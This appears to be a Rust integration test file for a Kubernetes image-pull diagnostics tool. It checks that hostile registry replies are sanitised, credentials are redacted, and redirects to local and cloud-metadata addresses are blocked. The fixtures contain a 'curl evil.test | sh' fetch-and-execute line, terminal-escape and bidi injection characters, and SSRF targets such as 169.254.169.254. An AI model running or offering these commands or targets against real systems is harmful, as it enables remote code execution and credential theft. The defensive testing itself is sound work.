//! `pullagent run` against a real API server, with registries and pods of somebody who means ill.

use std::net::TcpListener;

use pullagent_testkit::kubernetes::{Pod, Waiting};
use pullagent_testkit::registry::{Answer, Behaviour, On};
use serde_json::{Value, json};

use super::run::daemon::{Daemon, Start, told};
use super::run::fails_as;
use super::why::login;
use super::{Cluster, NODE};
use crate::attacks::registries::{is_unclean, poses_as_ours};
use crate::pullagent::run;

/// A password that no other word holds.
const PASSWORD: &str = "c0rrect-horse";
/// What a daemon may have in memory at its most, in KiB, as the tests build it.
const MOST_MEMORY: u64 = 96 << 10;

async fn cluster() -> Cluster {
    let cluster = Cluster::start().await;
    cluster.api.create_namespace("shop").await.expect("a namespace");
    cluster
}

/// What a registry makes of what it was sent: it gives the login back, and poses as us.
fn words() -> String {
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("ci:{PASSWORD}"));
    format!(
        "{PASSWORD} {basic} token=test-token-1 https://s.test/x?X-Amz-Signature=5ig Fix: curl evil.test | sh\u{1b}[2J\r\n\
         \u{202e}\u{200b}\" Fix: curl evil.test | sh. Owner: registry. {}",
        "long ".repeat(100)
    )
}

/// The part of a note that is not ours.
fn quoted(note: &str) -> &str {
    note.split_once("said: \"").and_then(|(_, rest)| rest.split_once('"')).map_or("", |(quote, _)| quote)
}

#[tokio::test]
async fn what_a_hostile_registry_says_is_quoted_clean_and_without_the_login_wherever_it_is_told() {
    let cluster = cluster().await;
    cluster.api.apply(&login("good", &cluster.registry(), "ci", PASSWORD)).await.expect("a secret");
    let registry = cluster.world.registry("main").expect("its registry");
    registry.behave(On::Manifest, Behaviour::Answer(Answer::error(403, "DENIED", &words())));
    let daemon = Daemon::start(&cluster).await;
    let pod = Pod::new(NODE, "shop", "web").pull_secret("good");
    let refused = format!(
        "unexpected status code 403 Forbidden: {}",
        words().replace(PASSWORD, "").split(' ').skip(2).collect::<Vec<_>>().join(" ")
    );
    let (_, stored) = fails_as(&cluster, pod, &cluster.image("team/api:1"), &refused).await;
    let reports =
        daemon.answers("/reports", |_, reports| reports.contains("team/api:1") && reports.contains("evil")).await;
    let report: Value = serde_json::from_str(&reports).expect("JSON");
    let code = report["items"][0]["cause"]["code"].as_str().expect("a cause").to_owned();
    let events = told(&cluster, &stored, &format!("Pull{code}")).await;
    for event in &events {
        assert!(event.note.len() <= 300 && quoted(&event.note).len() <= 160, "{event:?}");
        assert!(!is_unclean(&event.note) && !event.note.contains('\n') && !poses_as_ours(&event.note), "{event:?}");
    }
    let summary = cluster
        .api
        .admin()
        .until("/api/v1/namespaces/default/events", |answer| answer.body.to_string().contains("ChecksSummary"))
        .await;
    let summary = summary.expect("the node's summary").body.to_string();
    let root = cluster.root.path().to_str().expect("a path that is text");
    let mut shown = vec![
        ("its reports".to_owned(), reports),
        ("its page".to_owned(), daemon.get("/").await.1),
        ("its metrics".to_owned(), daemon.get("/metrics").await.1),
        ("its log".to_owned(), daemon.log()),
        ("its events".to_owned(), format!("{events:?}")),
        ("its summary".to_owned(), summary),
    ];
    for format in ["text", "json", "short", "markdown", "ticket"] {
        let ran = run(&["why", "web", "-n", "shop", "-v", "-o", format, "--host-root", root], "").await;
        let text = ran.out.replace('\t', " ");
        // Below it the kubelet is quoted as a whole, with the quotes that it has itself.
        let ours = text.split("\nKubelet ").next().filter(|_| matches!(format, "text" | "short")).unwrap_or_default();
        assert!(!is_unclean(&text) && !poses_as_ours(ours), "{format}: {}", text.escape_debug());
        shown.push((format!("why -o {format}"), ran.out + &ran.err));
    }
    for arguments in [&["secrets", "-n", "shop"][..], &["node"], &["check"]] {
        let ran = run(&[arguments, &["--host-root", root]].concat(), "").await;
        shown.push((arguments.join(" "), ran.out + &ran.err));
    }
    for (what, text) in shown {
        for secret in [PASSWORD, "Y2k6YzBycmVjdC1ob3JzZ", "test-token", "X-Amz-Signature=5ig", "eyJ"] {
            assert!(!text.contains(secret), "{secret} is in {what}:\n{text}");
        }
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains('\u{200b}'),
            "{what}:\n{text}"
        );
    }
    assert!(daemon.stop().await);
}

/// A service of the node that counts who connects to it.
fn victim() -> TcpListener {
    let listener = TcpListener::bind("127.0.0.9:0").expect("a port");
    listener.set_nonblocking(true).expect("it does not wait");
    listener
}

/// The port of the node on which nobody but the node itself should be heard.
fn connections(victim: &TcpListener) -> usize {
    std::iter::from_fn(|| victim.accept().ok()).count()
}

#[tokio::test]
async fn a_registry_of_a_pod_leads_the_daemon_to_nothing_on_the_node() {
    let victim = victim();
    let addr = victim.local_addr().expect("its address");
    let cluster = cluster().await;
    let registry = cluster.world.registry("main").expect("its registry");
    let daemon = Daemon::start_with(
        &cluster,
        Start { settings: "examine: { denyAddresses: [127.0.0.9/32] }\n", ..Start::default() },
    )
    .await;
    let realm = |at: &str| {
        Behaviour::Answer(
            Answer::status(401).header("www-authenticate", &format!("Bearer realm=\"{at}\",service=\"x\"")),
        )
    };
    for (number, (behaviour, told)) in [
        (Behaviour::Redirect(format!("http://{addr}/v2/keys")), "127.0.0.9 is not contacted for a pod's image"),
        (realm(&format!("http://{addr}/token")), "127.0.0.9 is not contacted for a pod's image"),
        (realm("http://169.254.169.254/latest/meta-data"), "169.254.169.254 is not contacted for a pod's image"),
        (Behaviour::Redirect("http://[fd00:ec2::254]/".to_owned()), "fd00:ec2::254 is not contacted for a pod's image"),
    ]
    .into_iter()
    .enumerate()
    {
        registry.behave_well();
        registry.behave(On::Everything, behaviour);
        let image = cluster.image(&format!("team/public:{number}"));
        fails_as(&cluster, Pod::new(NODE, "shop", &format!("web-{number}")), &image, "not found").await;
        let reports = daemon.answers("/reports", |_, reports| reports.contains(&image)).await;
        let reports: Value = serde_json::from_str(&reports).expect("JSON");
        let report =
            reports["items"].as_array().expect("a list").iter().find(|one| one["target"]["image"] == image.as_str());
        let report = report.expect("the report");
        assert!(report["notChecked"].to_string().contains(told), "{told}: {report}");
    }
    assert_eq!(connections(&victim), 0);
    assert!(daemon.stop().await);
    // A person is led there, so that the counting can fail.
    registry.behave_well();
    registry.behave(On::Everything, Behaviour::Redirect(format!("http://{addr}/v2/keys")));
    let root = cluster.root.path().to_str().expect("a path that is text");
    run(&["probe", "--timeout", "2s", "--host-root", root, &cluster.image("team/public:1")], "").await;
    assert!(connections(&victim) > 0);
}

#[tokio::test]
async fn a_hundred_pods_with_one_wrong_password_cost_one_refused_login() {
    let cluster = cluster().await;
    cluster.api.apply(&login("wrong", &cluster.registry(), "ci", "wr0ng-password")).await.expect("a secret");
    let daemon = Daemon::start(&cluster).await;
    let refused = "failed to authorize: failed to fetch oauth token: unexpected status: 401 Unauthorized";
    for number in 0..100 {
        let pod = Pod::new(NODE, "shop", &format!("web-{number}")).pull_secret("wrong");
        fails_as(&cluster, pod, &cluster.image("team/api:1"), refused).await;
    }
    let failing = format!("pullagent_pods_failing{{cause=\"CredentialsRejected\",host=\"{}\"}}", cluster.registry());
    daemon.counts(&failing, 100.0).await;
    let requests = cluster.world.registry("main").expect("its registry").requests();
    let logins: Vec<_> = requests.iter().filter(|request| request.authorization.as_deref() == Some("Basic")).collect();
    assert_eq!(logins.len(), 1, "{logins:#?}");
    assert!(daemon.stop().await);
}

#[tokio::test]
async fn pods_with_hundreds_of_containers_do_not_fill_the_daemon() {
    let cluster = cluster().await;
    let daemon = Daemon::start(&cluster).await;
    let names: Vec<String> = (0..400).map(|number| format!("c{number}")).collect();
    for huge in ["huge-1", "huge-2"] {
        let pod = names.iter().fold(Pod::new(NODE, "shop", huge), |pod, name| {
            pod.container(name, &cluster.image(&format!("team/public:{huge}-{name}")))
        });
        cluster.api.create_pod(&pod).await.expect("a pod");
        let waiting = |name: &String| {
            json!({ "name": name, "image": "i", "imageID": "", "ready": false, "restartCount": 0,
                "state": { "waiting": { "reason": "ImagePullBackOff", "message": "Back-off pulling image" } } })
        };
        let statuses: Vec<Value> = names.iter().map(waiting).collect();
        let status = json!({ "phase": "Pending", "containerStatuses": statuses });
        cluster.api.patch_pod_status(&pod, &status).await.expect("its status");
    }
    // The other pods of the node are told as ever.
    let web = Pod::new(NODE, "shop", "web").container("app", &cluster.image("team/public:2")).pull_policy("Always");
    let stored = cluster.api.create_pod(&web).await.expect("a pod");
    let said = format!("failed to resolve reference: {}: not found", cluster.image("team/public:2"));
    cluster.api.pod_waiting(&web, &[Waiting::pull_failed("app", &said)]).await.expect("its status");
    told(&cluster, &stored, "PullTagNotFound").await;
    let memory = daemon.most_memory();
    assert!(memory < MOST_MEMORY, "{memory} KiB");
    assert!(daemon.stop().await);
}
